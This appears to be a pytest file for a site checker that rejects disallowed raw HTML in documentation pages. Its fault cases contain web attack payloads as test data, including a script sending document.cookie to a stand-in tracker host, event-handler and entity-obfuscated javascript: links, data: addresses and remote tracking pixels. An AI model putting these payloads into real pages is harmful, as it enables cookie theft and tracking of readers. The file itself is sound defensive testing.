"""Raw HTML in pages: only the allowed elements and attributes; nothing that runs code or loads from elsewhere."""

import pytest

from conftest import line_of, messages, report
from sitecheck import raw_html

PAGE = "docs/about/index.md"
LISTED = "(the allowed HTML is listed in CONTRIBUTING.md)"


def test_pages_hold_only_the_allowed_html(project):
    report(raw_html.check(project))


# (what a pull request adds, where, what the check must say about it)
FAULTS = {
    "script": (PAGE, "<script>fetch('https://tracker.example.com/?' + document.cookie)</script>", f"<script> is not allowed in a page: pages may not run code; remove it {LISTED}"),
    "script-in-included-file": ("CONTRIBUTING.md", "<script src='../javascripts/x.js'></script>", "<script> is not allowed in a page: pages may not run code"),
    "style-element": (PAGE, "<style>.md-footer { display: none }</style>", "<style> is not allowed in a page: pages may not carry their own styles"),
    "style-attribute": (PAGE, '<span style="color: red">Stop treatment at once.</span>', "<span style> is not allowed: pages may not carry their own styles; give the element a class"),
    "iframe": (PAGE, '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>', "<iframe> is not allowed in a page: pages may not embed another site"),
    "form": (PAGE, '<form action="https://forms.example.com/collect">Your email:', "<form> is not allowed in a page: pages may not collect anything from readers"),
    "input": (PAGE, '<input name="email" type="email">', "<input> is not allowed in a page: pages may not collect anything from readers"),
    "event-handler": (PAGE, '<img src="../assets/images/mechanism/how-t-vec-works.svg" alt="Diagram" onerror="alert(1)">', "<img onerror> is not allowed: event handlers run code; remove the attribute"),
    "event-handler-in-attribute-list": (PAGE, '[The home page](../index.md){ onclick="alert(1)" }', "{ onclick=... } is not allowed: event handlers run code"),
    "javascript-in-html": (PAGE, '<a href="javascript:alert(1)">Read more</a>', "<a href='javascript:alert(1)'> is not allowed: a javascript: address runs code"),
    "javascript-hidden-by-an-entity": (PAGE, '<a href="java&#x09;script:alert(1)">Read more</a>', "a javascript: address runs code"),
    "javascript-in-markdown": (PAGE, "[Read more](javascript:alert(document.cookie))", "the Markdown link or image to 'javascript:alert(document.cookie)' is not allowed: a javascript: address runs code"),
    "javascript-in-link-reference": (PAGE, "[more]: javascript:alert(1)", "the link reference [more]: javascript:alert(1) is not allowed: a javascript: address runs code"),
    "data-address": (PAGE, "![Response chart](data:image/svg+xml;base64,PHN2Zy8+)", "is not allowed: a data: address hides its content from review"),
    "data-address-in-html": (PAGE, '<a href="data:text/html,<b>hi</b>">Open</a>', "is not allowed: a data: address hides its content from review"),
    "remote-image-in-html": (PAGE, '<img src="https://tracker.example.com/pixel.png" alt="">', "<img src='https://tracker.example.com/pixel.png'> is loaded from another host"),
    "remote-image-in-markdown": (PAGE, "![Response rates](https://images.example.com/chart.png)", "the image 'https://images.example.com/chart.png' is loaded from another host"),
    "script-in-data-rendered-into-a-page": ("data/claims.yml", "      The evidence <script>alert(1)</script> as a pull request might write it.", "<script> is not allowed in a page: pages may not run code"),
    "element-not-on-the-list": (PAGE, "<marquee>New data!</marquee>", f"<marquee> is not on the list of HTML allowed in a page; write it in Markdown or remove it {LISTED}"),
}


@pytest.mark.parametrize("path, added, expected", FAULTS.values(), ids=FAULTS.keys())
def test_fault_html_a_pull_request_may_not_add(broken, path, added, expected):
    broken.append(path, added)
    line = line_of(broken.project, path, added)
    found = messages(raw_html.check(broken.project))
    assert f"{path}:{line}: " in found and expected in found, found


def test_html_shown_as_code_is_not_judged(broken):
    broken.append(PAGE, "```html\n<script>alert(1)</script>\n```\n\nA page may not hold `<script>` or `<img src=\"https://x.example.com/y.png\">`.")
    assert raw_html.check(broken.project) == []
